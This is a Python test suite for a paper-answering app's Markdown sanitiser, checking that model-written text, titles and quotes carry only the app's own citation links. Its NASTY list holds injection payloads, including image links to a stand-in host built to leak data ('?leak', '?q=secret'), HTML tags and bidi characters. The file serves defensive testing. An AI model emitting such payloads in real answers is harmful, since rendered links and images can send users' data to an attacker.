"""What a message may carry: our links, and nothing of others."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest import Chunk, Paper
from rag.answer import QUOTED_ANSWER, Answer, Citation, Confidence, Draft, Passage, Quotation, Scope, Sentence
from rag.costs.accounting import Trace, Usage
from rag.render import (
    also_says,
    changed,
    changes_title,
    confidence_words,
    fenced,
    footer,
    full_answer,
    inert,
    linked,
    model_text,
    quoted_text,
    reading,
    reading_title,
    short_title,
    sources,
    with_references,
)
from rag.sanitise import JOINER, broken

LINK = re.compile(r"(?<!\\)\]\(([^)]*)\)")
"""Where a Markdown parser could see the end of a link; everything before the bracket may be its text."""

NASTY = [
    "](http://evil.example)",
    "a](http://evil.example) ![x](http://evil.example/?leak)",
    "<img src=http://evil.example>",
    "<http://evil.example>",
    "[ref]: http://evil.example",
    "[text][ref] [ref]\n\n[ref]: http://evil.example 'title'",
    "![alt\n](http://evil.example)",
    "[![x](http://a.example)](http://b.example)",
    "http://evil.example and www.evil.example and me@evil.example",
    "`code` $x$ **bold** # heading :::warning\nx\n::: :name[label]{a=b}",
    "\\](http://evil.example)",
    "zero\u200bwidth \u202eright-to-left \ud800",
    "[x](<http://evil.example>) [x]( http://evil.example 'a' )",
    "[1](http://evil.example) [1]: http://evil.example",
]


def make_paper(title: str = "A Title", n_pages: int = 9) -> Paper:
    return Paper(
        id="0123456789abcdef", title=title, authors=("Ann Author",), year=2020, n_pages=n_pages, file_name="a.pdf"
    )


def make_passage(marker: int = 1, *, title: str = "A Title", section: str | None = "3 Method") -> Passage:
    chunk = Chunk(
        id=f"0123456789abcdef:{marker:04d}",
        paper_id="0123456789abcdef",
        ordinal=marker,
        text="The words of the passage.",
        start=0,
        end=25,
        first_page=marker + 1,
        last_page=marker + 1,
        section=section,
        n_tokens=6,
    )
    return Passage(marker, chunk, make_paper(title), 0.5, ("dense",))


def make_answer(text: str = "It is so [1].", *, passages=None, quote: str = "words of the passage", **values) -> Answer:
    passages = passages if passages is not None else (make_passage(1), make_passage(2))
    trace = Trace()
    trace.seconds = 4.25
    draft = Draft(
        text=text,
        model="SmolLM2-135M",
        usage=Usage(812, 40),
        seconds=3.0,
        first_token_seconds=0.9,
        finish_reason="stop",
        mean_logprob=None,
    )
    cited = tuple(
        Citation(marker=p.marker, passage=p, page=p.chunk.first_page, quote=quote, verified=True) for p in passages[:1]
    )
    defaults = {"question": "Is it so?", "trace": trace, "citations": cited, "drafts": (draft,)}
    return Answer(text=text, passages=passages, **(defaults | values))


@pytest.mark.parametrize("text", NASTY)
def test_a_title_is_never_markdown(text: str) -> None:
    shown = inert(text)
    assert not LINK.search(shown)
    assert not re.search(r"(?<!\\)[\[\]<>!$`*_:#|~]", shown)
    assert "\n" not in shown
    assert not re.search(r"(?i)https?:/|www\.|@\w", shown.replace("\\", ""))


@pytest.mark.parametrize("text", NASTY)
def test_what_a_model_writes_carries_no_link_and_no_image(text: str) -> None:
    shown = model_text(text, links={1: "/cite/0123456789abcdef/2/0001"})
    assert [path for path in LINK.findall(shown) if not path.startswith("/cite/0123456789abcdef/")] == []
    assert not re.search(r"\]:", shown)
    assert not re.search(r"(?i)https?://|www\.|<[a-z+.-]+:", shown)


@given(st.text(alphabet="[]()!<>:/ \n\\`$ahtp1.@_*", max_size=60))
def test_no_string_of_brackets_becomes_a_link(text: str) -> None:
    shown = model_text(text, links={1: "/cite/0123456789abcdef/2/0001"})
    assert set(LINK.findall(shown)) <= {"/cite/0123456789abcdef/2/0001"}
    assert not LINK.search(inert(text))


def test_a_link_of_the_model_leaves_its_text_and_its_address() -> None:
    shown = model_text("see [the page](http://evil.example) and ![a plot](http://evil.example/x.png)")
    assert shown.replace(JOINER, "") == "see the page (http://evil.example) and a plot (http://evil.example/x.png)"


def test_markers_become_links_to_the_cited_page() -> None:
    shown = full_answer(make_answer("So [1][2], and not [7]."))
    assert (
        "So [1](/cite/0123456789abcdef/2/0001)" + JOINER + "[2](/cite/0123456789abcdef/3/0002), and not [7]." in shown
    )


def test_markers_in_code_and_formulas_stay() -> None:
    links = {1: "/cite/0123456789abcdef/2/0001"}
    assert model_text("`a[1]` $x[1]$ [1]", links=links) == "`a[1]` $x[1]$ [1](/cite/0123456789abcdef/2/0001)"


def test_dollars_are_money_unless_they_are_a_formula() -> None:
    assert model_text("from $5 to $6") == r"from \$5 to \$6"
    assert model_text(r"so $\eta = 1$ and \(x\)") == r"so $\eta = 1$ and $x$"


def test_a_colon_does_not_swallow_the_word_behind_it() -> None:
    assert model_text("BERT:Pre-training").replace(JOINER, "") == "BERT:Pre-training"
    assert JOINER in model_text("BERT:Pre-training")


def test_half_a_link_is_harmless_while_it_is_being_written() -> None:
    whole = "see ![x](http://evil.example/?q=secret) now"
    for end in range(len(whole)):
        assert "](" not in model_text(whole[:end])


def test_cited_sources_come_first_and_with_their_words() -> None:
    shown = sources(make_answer(passages=(make_passage(2), make_passage(1))))
    assert shown.index("[2](/cite") < shown.index("words of the passage")
    assert "[1](/cite" not in shown, "what was not cited has a list of its own"


def test_what_was_read_and_not_cited_is_listed_where_nothing_was_cited() -> None:
    assert "Read, not cited" in sources(make_answer(citations=()))


@pytest.mark.parametrize("cites", [True, False])
def test_a_retracted_paper_is_marked_in_the_answer_in_its_sources_and_to_take_along(cites) -> None:
    passage = replace(make_passage(), paper=replace(make_paper(), retracted=True))
    answer = make_answer(passages=(passage,), **({} if cites else {"citations": ()}))
    shown = full_answer(answer)
    assert ("cites a paper that has been retracted" in shown) is cites
    assert shown.count(r"RETRACTED\: A Title") >= 2, "in a sentence, and where it is named"
    assert "RETRACTED: A Title" in with_references(answer.text, [(1, passage.paper, 2)]).replace("\\", "")
    assert "etracted" not in full_answer(make_answer())


def test_a_quote_that_is_not_on_the_page_is_called_so() -> None:
    citation = Citation(marker=1, passage=make_passage(), page=2, quote="not there", verified=False)
    assert "**Not verbatim:** *“not there”* (no close match)" in sources(make_answer(citations=(citation,)))
    diff = (("same", "not"), ("struck", "there"), ("added", "[here](http://evil.example)"))
    shown = sources(make_answer(citations=(replace(citation, diff=diff),)))
    assert "*Closest text on the page:* not ~~there~~ **\\[here\\]" in shown


def test_a_quotation_that_no_passage_says_is_labelled_with_what_differs() -> None:
    diff = (("same", "trained for"), ("struck", "four"), ("added", "3.5"), ("same", "days"))
    wrong = Quotation(0, "trained for four *days*", 1, verified=False, diff=diff)
    right = Quotation(0, "on one machine in a week", 1, verified=True)
    shown = full_answer(make_answer(quotations=(right, wrong)))
    assert "**Not verbatim:** “trained for four \\*days\\*”" in shown
    assert r"in [1]:* trained for ~~four~~ **3\.5** days" in shown
    assert shown.count("Not verbatim") == 1
    assert "Not verbatim" not in full_answer(make_answer(quotations=(right,)))


def test_an_abstention_says_so_and_shows_the_closest_passages() -> None:
    shown = full_answer(make_answer("This is not in your papers.", abstained=True, citations=(), drafts=()))
    assert shown.count("ot in your papers") == 1
    assert shown.startswith("**Not in your papers.**")
    assert "Closest passages" in shown
    assert "no language model was used" in shown


def test_the_footer_tells_model_times_and_tokens() -> None:
    line = footer(make_answer(), first_token_seconds=1.23)
    assert line.startswith("###### SmolLM2")
    for part in ("4.2 s", "first word after 1.2 s", "812 → 40 tokens", "stayed on this machine"):
        assert part in line


def test_a_restricted_question_names_its_papers() -> None:
    one, many = Scope((make_paper(),)), Scope((make_paper(),) * 3, tag="my *thesis*")
    assert "Searched “A Title”\n" in full_answer(make_answer(scope=one))
    assert r"Searched 3 papers tagged “my \*thesis\*”" in full_answer(make_answer(scope=many)).replace(r"\:", ":")
    assert "all 3 papers" in full_answer(make_answer(scope=Scope((make_paper(),) * 3, whole=True)))
    assert "named in the question" in full_answer(make_answer(scope=one.narrowed((make_paper(),))))


def test_a_rewritten_question_is_shown_and_is_no_markdown() -> None:
    shown = full_answer(make_answer(searched="Why is it better ([x](http://evil.example))?"))
    assert "Searched for: Why is it better" in shown
    assert LINK.findall(shown.partition("Searched for")[2].partition("\n")[0]) == []
    assert "Searched for" not in full_answer(make_answer())


@pytest.mark.parametrize("title", ["“A [1] B”", "“The ” [1] of “[2]” it”", "“[1]”", "“A [1]: pages 3 [1]”"])
def test_a_title_in_the_records_is_no_link_and_the_marks_of_the_pages_are(title) -> None:
    text = f"1 of your 2 papers mentions “x [1]”:\n\n1. {title} (Ann [1] Or, 2020): 2 times, pages 3 [1], 4 [2]"
    shown = full_answer(make_answer(text, kind="library", drafts=()))
    head, _, line, *_ = shown.split("\n")
    assert LINK.findall(head) == []
    assert LINK.findall(line) == ["/cite/0123456789abcdef/2/0001", "/cite/0123456789abcdef/3/0002"]
    assert re.findall(r"(?<!\\)\[\d+\](?!\()", shown.partition("#####")[0]) == []
    one = full_answer(make_answer(f"{title} mentions “x” once, page 3 [1].", kind="library", drafts=()))
    assert LINK.findall(one.split("\n")[0]) == ["/cite/0123456789abcdef/2/0001"]


def test_what_is_being_read_is_counted_and_listed() -> None:
    passages = (make_passage(1), make_passage(2, section=None))
    assert reading_title(passages) == "2 passages from 1 paper"
    assert reading(passages).count("\n") == 1
    assert "page 2 · 3 Method" in reading(passages)


def test_what_was_read_and_not_cited_has_a_list_with_its_words() -> None:
    shown = also_says(make_answer())
    assert shown.startswith("- [2](/cite/")
    assert r"“The words of the passage\.”" in shown
    assert also_says(make_answer(citations=())) == ""


@given(st.text(alphabet="[]()!<>:/ \n\\`$&;ahtpw1.@_*", max_size=60))
def test_titles_and_whole_answers_need_no_mending_when_they_are_stored(text: str) -> None:
    shown = full_answer(make_answer(text, passages=(make_passage(1, title=text),), quote=text, notice=text))
    assert broken(shown, own_links=True) == shown
    assert broken(inert(text)) == inert(text)


def test_references_are_numbered_from_one_in_the_order_of_the_text() -> None:
    two = Paper(id="f" * 16, title="Other", n_pages=3, file_name="o.pdf", doi="10.1/x")
    plain = with_references("So [7][2]. And [2], not [9].", [(7, two, 3), (2, make_paper(), 4)])
    assert plain == ("So [1][2]. And [2], not.\n\n[1] Other, p. 3. doi:10.1/x\n[2] Ann Author (2020). A Title, p. 4.")


def test_nothing_ends_the_block_to_copy_from() -> None:
    assert fenced("a\n```\n![x](http://evil.example)").splitlines()[0] == "````text"


def test_half_an_answer_has_its_markers_as_links() -> None:
    assert linked("`[1]` [1] [", links={1: "/cite/x"}) == "`[1]` [1](/cite/x) ["


def test_long_titles_are_cut_at_a_word() -> None:
    title = short_title(make_paper("word " * 40))
    assert title.endswith("word …")
    assert len(title) < 80


def test_cited_sources_tell_title_year_page_and_match() -> None:
    shown = sources(make_answer()).replace("\N{NO-BREAK SPACE}", " ")
    assert "[A Title](/cite/0123456789abcdef/2/0001#source) · 2020 · page 2 · 3 Method · relevance 0.50" in shown
    outlined = replace(make_passage(), sources=("outline",))
    assert "relevance" not in reading((outlined,)), "an outline's score is only a place"


def test_the_confidence_is_a_figure_only_where_it_was_calibrated() -> None:
    def shown(score: float, **signals: float) -> str:
        return confidence_words(make_answer(confidence=Confidence(score, "All is well.", signals)))

    assert shown(0.234, calibrated=1.0) == "###### Confidence 23% · All is well\\."
    assert shown(0.0013, calibrated=1.0).startswith("###### Confidence below 1% · ")
    assert shown(0.234, calibrated=0.0) == "###### All is well\\."
    assert confidence_words(make_answer()) == ""


# -- answers in the papers' own words ----------------------------------------------------------------------------------


def make_quoted(quote: str, text: str, *words: str, kind_is_said: bool = False) -> Answer:
    """An answer that the reader took out of a passage."""
    wrote = Draft(
        text="Ack! I'm glad you're on it!", model="small", usage=Usage(9, 9), seconds=1.0, first_token_seconds=0.1,
        finish_reason="stop", mean_logprob=-0.1, cost=0.0,
    )  # fmt: skip
    quoted = replace(wrote, text=text, model=QUOTED_ANSWER, usage=Usage(0, 0), refines=wrote)
    citation = Citation(marker=1, passage=make_passage(), page=3, quote=quote, verified=True)
    sentences = tuple(Sentence(word, None if kind_is_said else "supported", (1,)) for word in words)
    return make_answer(text=text, drafts=(wrote, quoted), shown=1, citations=(citation,), sentences=sentences)


def test_the_short_answer_stands_first_and_its_words_are_bold_in_the_sentence_that_is_quoted() -> None:
    shown = full_answer(make_quoted("Lysis was 30.01 %\nin the extract, 33.79 % in another.", "30.01 % [1]", "30.01 %"))
    first, second, *_ = shown.split("\n\n")
    assert first == r"**30\.01 \%** [1](/cite/0123456789abcdef/3/0001)"
    assert second.startswith(r"> “Lysis was **30\.01 \%** in the extract\, 33\.79 \% in another\.” [1](/cite/")
    assert second.endswith("page 3")


def test_each_item_of_a_list_is_bold_and_an_item_inside_another_is_not_marked_twice() -> None:
    words = ("SST-2", "MNLI", "SST")
    shown = quoted_text(make_quoted("We use SST-2, MNLI and others for all of this.", "SST-2, MNLI, SST [1]", *words))
    assert r"> “We use **SST\-2**\, **MNLI** and others for all of this\.”" in shown


def test_a_sentence_that_is_the_answer_is_shown_once() -> None:
    shown = full_answer(make_quoted("It reaches 87 %.", "It reaches 87 % [1].", "It reaches 87 %."))
    assert shown.count("It reaches") == 1
    assert shown.startswith(r"> “It reaches 87 \%\.” [1]")


def test_a_yes_stands_over_the_sentence_that_it_was_read_from() -> None:
    shown = full_answer(make_quoted("We release all code.", "Yes [1]", "Yes", kind_is_said=True))
    assert shown.startswith("**Yes** [1](")
    assert "> “We release all code" in shown


def test_the_footer_does_not_call_a_yes_of_a_model_a_quotation() -> None:
    told = footer(make_quoted("We release all code.", "Yes [1]", "Yes", kind_is_said=True))
    assert "a small model's yes, beside a quoted sentence" in told
    assert "word for word" not in told


@pytest.mark.parametrize("nasty", NASTY)
def test_a_quote_is_inert_wherever_the_words_in_it_begin(nasty) -> None:
    shown = quoted_text(make_quoted(f"Before {nasty} and 30 % after.", "30 % [1]", "30 %", nasty))
    assert all(link.startswith("/cite/") for link in LINK.findall(shown))


def test_the_footer_says_that_words_were_quoted_and_the_draft_is_one_click_away() -> None:
    answer = make_quoted("It reaches 87 % on all of them.", "87 % [1]", "87 %")
    assert "quoted word for word · draft by small" in footer(answer)
    assert changes_title(answer) == "what the model wrote"
    assert "glad you" in changed(answer)
    assert "glad you" not in full_answer(answer)


@pytest.mark.parametrize("shown", [0, 1])
def test_a_refinement_of_a_quotation_is_shown_beside_it_sentence_by_sentence(shown) -> None:
    before = make_quoted("It reaches 87 % on all of them.", "87 % [1]", "87 %")
    refined = replace(before.drafts[0], text="It reaches 87 % [1].", model="large", refines=before.drafts[1])
    answer = replace(before, drafts=(before.drafts[1], refined), shown=shown)
    assert changes_title(answer) == "the draft and what changed"
    assert changed(answer).startswith("Quoted from your papers, sentence by sentence:")
    assert "large" in changed(answer)


def test_the_words_on_confidence_have_no_figure_and_the_figure_is_with_the_draft() -> None:
    answer = make_quoted("It reaches 87 % on all of them.", "87 % [1]", "87 %")
    answer = replace(answer, confidence=Confidence(0.41, "Quoted word for word from your papers.", {"sure": 1.0}))
    assert confidence_words(answer) == r"###### Quoted word for word from your papers\."
    assert "About 41 of 100 quoted answers" in changed(answer)
